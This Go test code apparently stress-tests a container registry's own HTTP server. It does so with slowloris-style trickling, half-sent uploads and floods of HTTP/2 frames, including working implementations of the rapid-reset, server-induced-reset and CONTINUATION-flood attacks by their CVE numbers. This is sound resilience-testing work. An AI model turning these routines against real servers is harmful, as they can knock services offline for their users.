package registrycmd

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"

	"github.com/opencontainers/go-digest"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"cove/distribution/distributiontest"
)

// attack is a kind of harm that one connection does, until it is closed or its deadline has come.
// Those who upload must have an account, and so has every second one of the others.
type attack struct {
	kind, protocol string
	harm           func(context.Context, *stormConn)
}

// stormConn is a connection of somebody who has an account or not.
type stormConn struct {
	*tls.Conn
	auth string // as the header says it
}

const stormKinds = 14

// attacks are the kinds, each of which has its share of the connections.
func (s *storm) attacks() []attack {
	get := "/v2/team/app/blobs/" + digest.FromBytes(s.blob).String()
	post := "/v2/team/app/blobs/uploads/?digest=" + digest.FromString("never").String()
	const plain, two = "http/1.1", "h2"
	const requests, frames = 200, 5000 // a second, of each kind
	flood := func(perSecond int, send func(f *stormFrames, i int) error) func(context.Context, *stormConn) {
		return s.flooding(perSecond, stormKinds, send)
	}
	return []attack{
		{"headers, byte by byte", plain, func(ctx context.Context, c *stormConn) {
			trickle(ctx, c, c.head(http.MethodGet, get, "x-header: "+string(bytes.Repeat([]byte("x"), 4000))))
		}},
		{"bodies, byte by byte", plain, func(ctx context.Context, c *stormConn) {
			_, _ = io.WriteString(c, c.head(http.MethodPost, post, "content-length: 1000000"))
			trickle(ctx, c, string(make([]byte, 4000)))
		}},
		{"answers that nobody takes", plain, func(ctx context.Context, c *stormConn) {
			_, _ = io.WriteString(c, c.head(http.MethodGet, get, "accept: */*"))
			<-ctx.Done()
		}},
		{"uploads, half closed", plain, s.halfClosed},
		{"uploads over HTTP/2, half sent", two, s.halfSent},
		{"20 streams without a window", two, func(ctx context.Context, c *stormConn) {
			f := c.frames(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			for i := range 20 {
				_ = f.headers(uint32(2*i+1), http.MethodGet, get, true)
			}
			_, _ = io.Copy(io.Discard, c)
			<-ctx.Done()
		}},
		{"20 bodies that go nowhere", two, func(ctx context.Context, c *stormConn) {
			f := c.frames()
			for i := range 20 {
				_ = f.headers(uint32(2*i+1), http.MethodPost, post, false)
				_ = f.WriteData(uint32(2*i+1), false, []byte("x"))
			}
			_, _ = io.Copy(io.Discard, c)
			<-ctx.Done()
		}},
		{"rapid resets (CVE-2023-44487)", two, flood(requests, func(f *stormFrames, i int) error {
			id := uint32(2*i + 1)
			if err := f.headers(id, http.MethodGet, get, true); err != nil {
				return err
			}
			return f.WriteRSTStream(id, http2.ErrCodeCancel)
		})},
		{"resets that the server is made to send (CVE-2025-8671)", two, flood(requests, func(f *stormFrames, i int) error {
			id := uint32(2*i + 1)
			if err := f.headers(id, http.MethodGet, get, true); err != nil {
				return err
			}
			return f.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0}) // an increment of nothing
		})},
		{"CONTINUATION (CVE-2024-27316)", two, flood(frames, func(f *stormFrames, i int) error {
			if i == 0 {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block(http.MethodGet, get)})
			}
			return f.WriteContinuation(1, false, bytes.Repeat([]byte{0, 1, 'a', 1, 'b'}, 1000))
		})},
		{"PING", two, flood(frames, func(f *stormFrames, _ int) error { return f.WritePing(false, [8]byte{1}) })},
		{"SETTINGS", two, flood(frames, func(f *stormFrames, i int) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i & 0xffff)})
		})},
		{"PRIORITY", two, flood(frames, func(f *stormFrames, i int) error {
			return f.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: uint32(2*i + 3)})
		})},
		{"frames without bytes", two, flood(frames, func(f *stormFrames, i int) error {
			if i == 0 {
				return f.headers(1, http.MethodPost, post, false)
			}
			return f.WriteData(1, false, nil)
		})},
	}
}

// flooding sends frames, so many a second over all connections of its kind: what is tried is not
// whether the processors of this machine can be kept busy.
func (s *storm) flooding(perSecond, kinds int, send func(f *stormFrames, i int) error) func(context.Context, *stormConn) {
	const burst = 20
	pause := time.Duration(burst*max(1, *stormSize/kinds)) * time.Second / time.Duration(perSecond)
	return func(ctx context.Context, c *stormConn) {
		f := c.frames()
		go func() { _, _ = io.Copy(io.Discard, c) }() // ends by the deadline
		for i := 0; ctx.Err() == nil; i++ {
			if err := send(f, i); err != nil {
				return
			}
			if i%burst == burst-1 {
				select {
				case <-ctx.Done():
				case <-time.After(pause):
				}
			}
		}
	}
}

// stormFrames is a connection of HTTP/2, frame by frame.
type stormFrames struct {
	*http2.Framer
	auth string
}

func (c *stormConn) frames(settings ...http2.Setting) *stormFrames {
	_, _ = io.WriteString(c, http2.ClientPreface)
	f := &stormFrames{http2.NewFramer(c, c), c.auth}
	_ = f.WriteSettings(settings...)
	return f
}

// head is a request of HTTP/1.1.
func (c *stormConn) head(method, path, header string) string {
	return fmt.Sprintf("%s %s HTTP/1.1\r\nhost: x\r\nauthorization: %s\r\n%s\r\n\r\n", method, path, c.auth, header)
}

// block is the same as HTTP/2 has it.
func (f *stormFrames) block(method, path string) []byte {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, h := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", "x"}, {":path", path}, {"authorization", f.auth}} {
		_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	return block.Bytes()
}

func (f *stormFrames) headers(id uint32, method, path string, ends bool) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: f.block(method, path), EndStream: ends, EndHeaders: true})
}

// trickle sends a byte now and then.
func trickle(ctx context.Context, c *stormConn, text string) {
	for i := range len(text) {
		if _, err := io.WriteString(c, text[i:i+1]); err != nil || ctx.Err() != nil {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// halfUpload is one whose client has sent a part and then nothing.
type halfUpload struct {
	at    string
	bytes []byte
}

// begin opens an upload whose body will end in its middle.
func (s *storm) begin() (*halfUpload, bool) {
	status, header, _ := s.p.do(http.MethodPost, "/v2/team/app/blobs/uploads/", nil)
	if status != http.StatusAccepted {
		return nil, false
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	u := &halfUpload{header.Get("Location"), distributiontest.Bytes(uint64(1000+len(s.uploads)), 300_000)}
	s.uploads = append(s.uploads, u)
	return u, true
}

// halfClosed sends a part of a body and closes its half of the connection; every second one
// without the word of TLS.
func (s *storm) halfClosed(ctx context.Context, c *stormConn) {
	u, ok := s.begin()
	if !ok {
		return
	}
	_, _ = io.WriteString(c, c.head(http.MethodPatch, u.at, "content-length: 300000"))
	_, _ = c.Write(u.bytes[:100_000])
	if tcp, ok := c.NetConn().(*net.TCPConn); ok && len(u.at)%2 == 0 {
		_ = tcp.CloseWrite()
	} else {
		_ = c.CloseWrite()
	}
	<-ctx.Done()
}

// halfSent is the same in a stream, which HTTP/2 does not know to be half closed.
func (s *storm) halfSent(ctx context.Context, c *stormConn) {
	u, ok := s.begin()
	if !ok {
		return
	}
	f := c.frames()
	_ = f.headers(1, http.MethodPatch, u.at, false)
	for from := 0; from < 60_000; from += 10_000 { // within the window that a stream has at first
		_ = f.WriteData(1, false, u.bytes[from:from+10_000])
	}
	<-ctx.Done()
}

// resume ends every upload that was cut, from where the registry says it is.
func (s *storm) resume() (resumed int) {
	s.t.Helper()
	for _, u := range s.uploads {
		at := s.p.arrived(u.at)
		if at == 1 { // 0-0 is one byte, or none
			at = 0
		}
		status, _, body := s.p.do(http.MethodPatch, u.at, u.bytes[at:], "Content-Range", fmt.Sprintf("%d-%d", at, len(u.bytes)-1))
		if status != http.StatusAccepted {
			s.t.Errorf("an upload that was cut at %d: %d %s", at, status, body)
			continue
		}
		dgst := digest.FromBytes(u.bytes).String()
		if status, _, body := s.p.do(http.MethodPut, u.at+"?digest="+dgst, nil); status != http.StatusCreated {
			s.t.Errorf("the end of an upload that was cut at %d: %d %s", at, status, body)
			continue
		}
		resumed++
	}
	return resumed
}
